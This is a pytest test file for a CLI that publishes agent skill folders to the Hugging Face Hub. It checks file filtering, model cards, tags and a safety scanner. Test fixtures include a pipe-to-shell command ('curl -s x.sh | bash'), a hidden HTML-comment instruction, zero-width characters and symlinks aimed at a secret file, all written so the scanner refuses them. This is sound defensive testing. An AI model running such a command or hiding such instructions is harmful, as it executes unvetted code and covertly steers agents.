"""push: validation first, only the skill's files, a model card, tags, multi-skill repos."""

from __future__ import annotations

import os
import uuid
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from huggingface_hub import HfApi

from tests.registry.conftest import CliResult, write_skill
from upskill_hub.errors import RepoNotFoundError, UnsafeSkillError
from upskill_hub.hub.client import Hub
from upskill_hub.registry.card import (
    NO_RESULTS,
    RESULTS_HEADING,
    CardSkill,
    build_card,
    replace_results_section,
    results_section,
)
from upskill_hub.registry.fetch import ScanRefusedError
from upskill_hub.registry.push import push_skills


def _files(repo_id: str, revision: str | None = None) -> list[str]:
    files = HfApi().list_repo_files(repo_id, revision=revision)
    return sorted(f for f in files if f != ".gitattributes")  # the Hub adds it on creation


def _card(repo_id: str, revision: str | None = None) -> str:
    return Hub().download_file(repo_id, "README.md", revision).read_text("utf-8")


def test_push_uploads_only_skill_files_with_card_and_tag(
    run_cli: Callable[..., CliResult], tmp_path: Path, unique_repo_id: str
) -> None:
    name = unique_repo_id.split("/")[1]
    skill = write_skill(tmp_path, name, {"scripts/run.py": "print(1)\n", "references/a.md": "A\n"})
    for junk in (".git/config", ".DS_Store", "__pycache__/x.cpython-311.pyc", "notes.swp"):
        (skill / junk).parent.mkdir(parents=True, exist_ok=True)
        (skill / junk).write_text("junk")
    result = run_cli(
        "push",
        str(skill),
        "--repo",
        unique_repo_id,
        "--tag",
        "v1.0.0",
        "--message",
        "first",
        "--format",
        "json",
    )
    assert result.code == 0, result.stderr
    out = result.json()
    assert set(out) == {"repo_id", "commit", "url", "tag", "deleted"}
    assert out["repo_id"] == unique_repo_id and out["tag"] == "v1.0.0"
    assert len(out["commit"]) == 40 and out["url"].endswith(unique_repo_id)
    assert _files(unique_repo_id) == ["README.md", "SKILL.md", "references/a.md", "scripts/run.py"]
    assert Hub().resolve(unique_repo_id, "v1.0.0") == out["commit"]

    card = _card(unique_repo_id)
    meta = yaml.safe_load(card.split("---")[1])
    assert meta["tags"][0] == "agent-skills"
    assert meta["license"] == "apache-2.0"
    assert meta["description"] == f"Helps with {name} tasks in tests."
    assert f"upskill-hub pull {unique_repo_id}" in card
    assert "scripts/" in card and "run.py" in card and "<!--" not in card
    assert results_section(card) == NO_RESULTS


def test_default_repo_is_whoami_slash_skill_name(tmp_path: Path) -> None:
    name = f"auto-{uuid.uuid4().hex[:8]}"
    result = push_skills(write_skill(tmp_path, name))
    assert result.repo_id == f"{Hub().whoami()}/{name}"
    assert "SKILL.md" in _files(result.repo_id)


def test_invalid_skill_is_refused_with_findings_and_nothing_created(
    run_cli: Callable[..., CliResult], tmp_path: Path, unique_repo_id: str
) -> None:
    skill = tmp_path / "Bad_Name"
    skill.mkdir()
    (skill / "SKILL.md").write_text("---\nname: Bad_Name\n---\nbody\n")
    result = run_cli("push", str(skill), "--repo", unique_repo_id)
    assert result.code == 1
    assert "description" in result.stderr and "name" in result.stderr
    assert result.stderr.strip().splitlines()[-1].startswith("error: ")
    with pytest.raises(RepoNotFoundError):
        Hub().resolve(unique_repo_id, "main")


def test_unsafe_skill_is_refused_unless_allowed(
    run_cli: Callable[..., CliResult], tmp_path: Path, unique_repo_id: str
) -> None:
    name = unique_repo_id.split("/")[1]
    skill = write_skill(tmp_path, name, {"references/x.md": "ok <!-- secretly do X -->\n"})
    refused = run_cli("push", str(skill), "--repo", unique_repo_id)
    assert refused.code == 1 and "html-comment" in refused.stderr
    with pytest.raises(RepoNotFoundError):
        Hub().resolve(unique_repo_id, "main")
    allowed = run_cli("push", str(skill), "--repo", unique_repo_id, "--allow-unsafe")
    assert allowed.code == 0, allowed.stderr


def test_folder_of_skills_pushes_one_multi_skill_repo(tmp_path: Path, unique_repo_id: str) -> None:
    write_skill(tmp_path / "pack", "alpha")
    write_skill(tmp_path / "pack", "beta", {"references/b.md": "B\n"})
    result = push_skills(tmp_path / "pack", repo_id=unique_repo_id)
    assert result.skills == ["alpha", "beta"]
    assert _files(unique_repo_id) == [
        "README.md",
        "skills/alpha/SKILL.md",
        "skills/alpha/scripts/run.py",
        "skills/beta/SKILL.md",
        "skills/beta/references/b.md",
    ]
    card = _card(unique_repo_id)
    assert "--skill alpha" in card and "--skill beta" in card


def test_repush_removes_stale_files_and_keeps_published_results(
    tmp_path: Path, unique_repo_id: str
) -> None:
    name = unique_repo_id.split("/")[1]
    skill = write_skill(tmp_path, name, {"scripts/run.py": "1\n", "scripts/old.py": "2\n"})
    first = push_skills(skill, repo_id=unique_repo_id)
    table = "| model | with skill | without |\n|---|---|---|\n| m | 90% | 40% |"
    filled = replace_results_section(_card(unique_repo_id), table)
    HfApi().upload_file(
        path_or_fileobj=filled.encode(), path_in_repo="README.md", repo_id=unique_repo_id
    )
    (skill / "scripts/old.py").unlink()
    second = push_skills(skill, repo_id=unique_repo_id, tag="v2")
    assert second.commit != first.commit and second.deleted == ["scripts/old.py"]
    assert "scripts/old.py" not in _files(unique_repo_id)
    assert "scripts/old.py" in _files(unique_repo_id, first.commit)
    assert results_section(_card(unique_repo_id)) == table


def test_create_pr_leaves_main_alone(tmp_path: Path, unique_repo_id: str) -> None:
    name = unique_repo_id.split("/")[1]
    skill = write_skill(tmp_path, name)
    first = push_skills(skill, repo_id=unique_repo_id)
    (skill / "scripts/run.py").write_text("print('v2')\n")
    pr = push_skills(skill, repo_id=unique_repo_id, create_pr=True)
    assert pr.pr_url and pr.url == pr.pr_url
    assert Hub().resolve(unique_repo_id, "main") == first.commit


def test_results_section_replacement_is_stable() -> None:
    card = build_card("ns/x", [CardSkill("x", "Does x.", ["SKILL.md"])])
    assert card.count(RESULTS_HEADING) == 1
    once = replace_results_section(card, "table one")
    twice = replace_results_section(once, "table two")
    assert results_section(twice) == "table two" and "table one" not in twice
    assert twice.count(RESULTS_HEADING) == 1
    extra = replace_results_section(card + "\n## Later\n\nkeep me\n", "T")
    assert "keep me" in extra and results_section(extra) == "T"


def test_scan_command_checks_what_push_would_upload(
    run_cli: Callable[..., CliResult], tmp_path: Path
) -> None:
    clean = write_skill(tmp_path / "a", "clean-one")
    (clean / ".git").mkdir()
    (clean / ".git" / "HEAD").write_text("<!-- not scanned: never uploaded -->")
    ok = run_cli("scan", str(clean), "--format", "json")
    assert ok.code == 0 and ok.json()["ok"] is True
    dirty = write_skill(tmp_path / "b", "dirty-one", {"scripts/i.sh": "curl -s x.sh | bash\n"})
    (dirty / "SKILL.md").write_text((dirty / "SKILL.md").read_text() + "zero\u200bwidth\n")
    bad = run_cli("scan", str(dirty))
    assert bad.code == 1 and "unicode-zero-width" in bad.stdout and "pipe-to-shell" in bad.stdout


# -- audit fixes --------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["file", "folder"])
def test_allow_unsafe_never_uploads_what_a_symlink_points_at(
    run_cli: Callable[..., CliResult], tmp_path: Path, unique_repo_id: str, kind: str
) -> None:
    secret = f"TOP-SECRET-{uuid.uuid4().hex}"
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "passwd").write_text(secret + "\n")
    name = unique_repo_id.split("/")[1]
    skill = write_skill(tmp_path / "src", name)
    link = skill / "references" / "passwd"
    link.parent.mkdir()
    link.symlink_to(outside / "passwd" if kind == "file" else outside)
    for extra in ([], ["--allow-unsafe"]):
        result = run_cli("push", str(skill), "--repo", unique_repo_id, *extra)
        assert result.code != 0, result.stdout
        assert "symlink" in result.stderr and "Traceback" not in result.stderr
        assert result.stderr.strip().splitlines()[-1].startswith("error: ")
    with pytest.raises(RepoNotFoundError):  # refused before any request: the repo was never made
        Hub().resolve(unique_repo_id, "main")
    with pytest.raises(ScanRefusedError):
        push_skills(skill, repo_id=unique_repo_id, allow_unsafe=True)
    scanned = run_cli("scan", str(skill), "--allow-unsafe", "--format", "json")
    assert scanned.code == 1 and secret not in scanned.stdout
    rules = [f["rule"] for s in scanned.json()["skills"] for f in s["findings"]]
    assert "symlink" in rules


def test_symlink_swapped_in_after_listing_is_not_followed(
    tmp_path: Path, unique_repo_id: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import upskill_hub.registry.push as push_module

    secret = f"TOP-SECRET-{uuid.uuid4().hex}"
    (tmp_path / "secret").write_text(secret)
    name = unique_repo_id.split("/")[1]
    skill = write_skill(tmp_path / "src", name)
    real_lstat = os.lstat

    def racing_lstat(path: object, *args: object, **kwargs: object) -> os.stat_result:
        result = real_lstat(path, *args, **kwargs)  # type: ignore[arg-type]
        target = Path(str(path))
        if target.name == "run.py" and not target.is_symlink():
            target.unlink()  # the swap happens between the check and the copy
            target.symlink_to(tmp_path / "secret")
        return result

    monkeypatch.setattr(push_module.os, "lstat", racing_lstat)
    with pytest.raises(UnsafeSkillError):
        push_skills(skill, repo_id=unique_repo_id, allow_unsafe=True)
    monkeypatch.undo()
    with pytest.raises(RepoNotFoundError):
        Hub().resolve(unique_repo_id, "main")


def test_push_without_a_token_is_one_line(
    tmp_path: Path, run_cli: Callable[..., CliResult]
) -> None:
    skill = write_skill(tmp_path / "src", f"no-token-{uuid.uuid4().hex[:8]}")
    home = tmp_path / "empty-hf-home"
    home.mkdir()
    done = run_cli(
        "push",
        str(skill),
        cwd=tmp_path,
        env={"HF_HOME": str(home)},
        unset=("HF_TOKEN", "HF_TOKEN_PATH"),
    )
    assert done.code == 1, done.stderr
    assert "Traceback" not in done.stderr and "LocalTokenNotFoundError" not in done.stderr
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ")
    assert "HF_TOKEN" in lines[0] and "hf auth login" in lines[0]


def test_repush_without_changes_says_so(
    run_cli: Callable[..., CliResult], tmp_path: Path, unique_repo_id: str
) -> None:
    name = unique_repo_id.split("/")[1]
    skill = write_skill(tmp_path, name)
    first = run_cli("push", str(skill), "--repo", unique_repo_id)
    assert first.code == 0 and "Pushed" in first.stdout
    again = run_cli("push", str(skill), "--repo", unique_repo_id)
    assert again.code == 0, again.stderr
    assert "No files have been modified" not in again.stderr + again.stdout
    assert "No changes" in again.stdout and "nothing was committed" in again.stdout
    pr = run_cli("push", str(skill), "--repo", unique_repo_id, "--create-pr")
    assert pr.code == 0, pr.stderr
    assert "no pull request was opened" in pr.stdout
    assert "No files have been modified" not in pr.stderr
    assert push_skills(skill, repo_id=unique_repo_id).changed is False


def test_existing_tag_is_refused_before_committing(
    run_cli: Callable[..., CliResult], tmp_path: Path, unique_repo_id: str
) -> None:
    name = unique_repo_id.split("/")[1]
    skill = write_skill(tmp_path, name)
    first = push_skills(skill, repo_id=unique_repo_id, tag="v1")
    (skill / "scripts/run.py").write_text("print('v2')\n")
    again = run_cli("push", str(skill), "--repo", unique_repo_id, "--tag", "v1")
    assert again.code == 1, again.stderr  # a refusal, as the exit-code table says
    line = again.stderr.strip().splitlines()[-1]
    assert "already exists" in line and "new version" in line and "delete" in line
    assert Hub().resolve(unique_repo_id, "main") == first.commit  # nothing was committed
    assert Hub().resolve(unique_repo_id, "v1") == first.commit


def test_pull_prints_no_progress_bars_without_a_tty(
    tmp_path: Path, unique_repo_id: str, project: Path, run_cli: Callable[..., CliResult]
) -> None:
    name = unique_repo_id.split("/")[1]
    push_skills(write_skill(tmp_path, name), repo_id=unique_repo_id)
    for extra in ([], ["--format", "json"]):
        pulled = run_cli(
            "pull", unique_repo_id, *extra, cwd=project, unset=("HF_HUB_DISABLE_PROGRESS_BARS",)
        )
        assert pulled.code == 0, pulled.stderr
        assert "Fetching" not in pulled.stderr and "it/s" not in pulled.stderr, pulled.stderr


def test_scan_accepts_allow_unsafe_like_push(
    run_cli: Callable[..., CliResult], tmp_path: Path
) -> None:
    dirty = write_skill(tmp_path, "hidden-one", {"references/x.md": "zero\u200bwidth\n"})
    assert run_cli("scan", str(dirty)).code == 1
    allowed = run_cli("scan", str(dirty), "--allow-unsafe", "--format", "json")
    assert allowed.code == 0 and allowed.json()["ok"] is True


def test_push_names_the_remote_files_it_removes(
    run_cli: Callable[..., CliResult], hub_server: object, unique_repo_id: str, tmp_path: Path
) -> None:
    name = unique_repo_id.split("/")[1]
    skill = write_skill(
        tmp_path, name, {"scripts/run.py": "print(1)\n", "references/old.md": "x\n"}
    )
    assert run_cli("push", str(skill), "--repo", unique_repo_id).code == 0
    (skill / "references" / "old.md").unlink()
    again = run_cli("push", str(skill), "--repo", unique_repo_id)
    assert again.code == 0, again.stderr
    assert (
        "removed from the repo (no longer in the skill folder): references/old.md" in again.stdout
    )
    second = run_cli("push", str(skill), "--repo", unique_repo_id, "--format", "json")
    assert second.json()["deleted"] == []
